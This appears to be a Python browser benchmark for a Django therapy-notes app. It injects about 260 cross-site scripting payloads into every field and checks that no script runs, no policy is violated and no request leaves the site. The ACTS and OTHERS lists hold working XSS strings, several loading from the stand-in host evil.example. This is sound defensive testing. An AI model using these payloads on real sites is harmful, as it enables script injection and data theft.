"""S-12: words that are programs to a browser, in every field that holds words: ``python -m benchmarks.scripts``.

For each of some 260 payloads a household is made whose every word begins with it: names of accounts, clients,
passkeys and browsers, a transcript, moments, notes, what was shared and answered, what a client wrote about themselves,
what was brought to supervision. Every page that its people can open is opened in Chromium, and the report of a session
that holds all payloads. Counted are: programs that ran, reports of the content security policy, requests that leave the
desk, and elements that came with an attribute that acts (``on...``). All of them must be none.
"""

from __future__ import annotations

import argparse
import html
import os
import sys
import tempfile
import time
from collections import Counter
from itertools import product
from pathlib import Path
from uuid import UUID, uuid4

import django

os.environ.setdefault("DJANGO_SETTINGS_MODULE", "hereandnow.web.settings")
os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "true"  # Playwright leaves an event loop running in this thread
django.setup()

from django.conf import settings  # noqa: E402 - Django must be set up first
from django.db import connections  # noqa: E402
from playwright.sync_api import BrowserContext, ConsoleMessage, Dialog, Page, Request, sync_playwright  # noqa: E402
from tests.browser.chromium import find_chromium  # noqa: E402
from tests.web.desk import PASSWORD, Browser  # noqa: E402
from tests.web.matrix.rows import PAGE, ROWS  # noqa: E402
from tests.web.matrix.world import CHOICES, OBJECTS, House  # noqa: E402
from tests.web.people import account  # noqa: E402
from tests.web.routes import BY_NAME, Route  # noqa: E402
from tests.web.served import serving  # noqa: E402

from hereandnow.reports.html import write_html  # noqa: E402
from hereandnow.review import review  # noqa: E402
from hereandnow.transcripts import Transcript, Utterance, session_of  # noqa: E402
from hereandnow.web.home import Home, prepare_home  # noqa: E402
from hereandnow.web.keys import Hardness  # noqa: E402
from hereandnow.web.records.roles import Role  # noqa: E402
from hereandnow.web.vault import Vault, use  # noqa: E402

ENDS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "`>")
"""What the words may stand in."""

ACTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<iframe src=javascript:alert(1)>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<a href=javascript:alert(1)>press</a>",
    "<form action=//evil.example><button>press</button>",
    "<math><a xlink:href=javascript:alert(1)>press",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:htmx:load=alert(1) hx-get=/ hx-trigger=load>",
    "<body onload=alert(1)>",
    "<b style=background:url(//evil.example)>",
)

OTHERS = (
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    " autofocus onfocus=alert(1) ",
    "` onmouseover=alert(1) ",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "${alert(1)}",
    "{{ request }}{% debug %}",
    "';alert(1);//",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "＜img src=x onerror=alert(1)＞",
    "<\u200bimg src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<table><td background=//evil.example>",
    "<img src=x\u2028onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<a\thref='java\tscript:alert(1)'>press</a>",
)

PAYLOADS = [end + act for end, act in product(ENDS, ACTS)] + list(OTHERS)

LISTEN = """
window.addEventListener('securitypolicyviolation', (event) => console.log('POLICY ' + event.violatedDirective));
"""
ACTING = """() => [...document.querySelectorAll('*')].filter((one) => [...one.attributes].some(
  (attribute) => attribute.name.startsWith('on') || attribute.name.startsWith('hx-on'))).length"""


class Watcher:
    """Counts what must not be."""

    def __init__(self, context: BrowserContext, origin: str) -> None:
        self.amiss: Counter[str] = Counter()
        self.origin = origin
        self.pages = self.shown = 0
        self.page: Page = context.new_page()
        self.page.on("dialog", self._ran)
        self.page.on("console", self._said)
        self.page.on("request", self._asked)

    def open(self, address: str, what: str) -> None:
        """Open a page and look for what acts."""
        answer = self.page.goto(address, wait_until="load")
        self.pages += 1
        if answer is not None and answer.status >= 400 and address.startswith("http"):
            self.amiss[f"{what} answered {answer.status}"] += 1
        if acting := self.page.evaluate(ACTING):
            self.amiss[f"an element that acts, on {what}"] += acting

    def _ran(self, dialog: Dialog) -> None:
        self.amiss["a program ran"] += 1
        dialog.dismiss()

    def _said(self, message: ConsoleMessage) -> None:
        self.amiss[message.text] += message.text.startswith("POLICY")

    def _asked(self, request: Request) -> None:
        self.amiss["a request that leaves"] += not request.url.startswith((self.origin, "data:"))


def main() -> None:
    """Open all pages for all payloads."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--every", type=int, default=1, help="one in so many of them")
    parser.add_argument("--first", type=int, default=0, help="from which on: runs of parts lie side by side")
    asked = parser.parse_args()
    payloads = PAYLOADS[asked.first :: asked.every]
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    began = time.monotonic()
    with tempfile.TemporaryDirectory() as folder, sync_playwright() as playwright:
        prepare_home(Home(Path(folder) / "home"))
        use(Vault(Home(Path(folder) / "home"), hardness=Hardness(memory=64, passes=1, lanes=1)))
        Browser().set_up()
        browser = playwright.chromium.launch(executable_path=find_chromium())
        amiss: Counter[str] = Counter()
        pages = shown = 0
        _check_the_watch(browser.new_context())
        with serving() as port:
            origin = f"http://127.0.0.1:{port}/"
            for number, payload in enumerate(payloads):
                watcher = _visit(browser.new_context(), origin, payload)
                amiss.update(watcher.amiss)
                pages, shown = pages + watcher.pages, shown + watcher.shown
                if number % 20 == 19:
                    print(f"{number + 1} payloads, {pages} pages, amiss: {dict(+amiss)}", file=sys.stderr, flush=True)
        report = Path(folder) / "report.html"
        report.write_text(_report(payloads), encoding="utf-8")
        context = browser.new_context()
        context.add_init_script(LISTEN)
        watcher = Watcher(context, report.as_uri())
        watcher.open(report.as_uri(), "the report")
        amiss.update(watcher.amiss)
        browser.close()
    print(
        f"{len(payloads)} payloads, {pages} pages, {shown} of them with the words, and a report of all; "
        f"amiss: {dict(+amiss) or 'nothing'}; {time.monotonic() - began:.0f} s"
    )


def _check_the_watch(context: BrowserContext) -> None:
    """Raises AssertionError where what must not be would not be counted."""
    watcher = Watcher(context, "http://127.0.0.1:1/")
    watcher.page.set_content(f"{ACTS[2]}{ACTS[7]}<script>alert(1)</script>")
    watcher.page.wait_for_timeout(500)
    assert watcher.amiss["a program ran"], watcher.amiss
    assert watcher.page.evaluate(ACTING)
    context.close()


def _visit(context: BrowserContext, origin: str, payload: str) -> Watcher:
    """Make the household of a payload, and open its pages as its people."""
    own = f"{payload} {uuid4().hex[:6]}"  # two people of one name cannot sign in
    house = House(own, {role: account(f"{own} {role.value}", role) for role in Role})
    cookies = {}
    for role, person in house.people.items():
        someone = Browser()
        someone.sign_in(person.name, PASSWORD)
        cookies[role] = someone.cookies["hereandnow_session"].value
    for argument, role in product(OBJECTS, Role):
        house.object(argument, role)
    connections.close_all()
    context.add_init_script(LISTEN)
    watcher = Watcher(context, origin)
    for name, row in ROWS.items():
        if row.get != PAGE or name in ("invitation", "my_copy"):
            continue
        role = next(role for role in Role if role in (row.roles or Role))
        context.clear_cookies()
        context.add_cookies([{"name": "hereandnow_session", "value": cookies[role], "url": origin}])
        watcher.open(origin + _address(BY_NAME[name], house, role).removeprefix("/"), name)
        watcher.shown += own in html.unescape(watcher.page.content())
    context.close()
    return watcher


def _address(route: Route, house: House, role: Role) -> str:
    named = ROWS[route.name].named
    ids: dict[str, object] = {one: CHOICES[one] for one in route.never if one in CHOICES}
    for argument in route.never:
        if argument in OBJECTS:
            found = house.object(named.get(argument, argument), role)
            assert isinstance(found, UUID | int)
            ids[argument] = found
    return str(route.address(**ids))


def _report(payloads: list[str]) -> str:
    said = tuple(Utterance("TC"[number % 2], f"{payload} I was sad.") for number, payload in enumerate(payloads))
    transcript = Transcript(payloads[0], said, roles={"T": "therapist", "C": "client"})
    return write_html(review(session_of(transcript, source=payloads[1])))


if __name__ == "__main__":
    main()
